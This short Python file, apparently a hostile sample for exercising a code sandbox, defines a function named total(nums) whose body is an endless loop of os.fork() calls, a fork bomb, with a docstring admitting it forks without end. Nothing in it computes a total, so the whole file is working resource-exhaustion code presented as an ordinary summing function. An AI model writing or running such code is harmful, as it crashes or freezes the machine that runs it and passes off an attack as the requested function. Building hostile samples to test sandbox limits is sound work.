# RE total
"""Forks without end before it answers."""
import os


def total(nums):
    while True:
        os.fork()
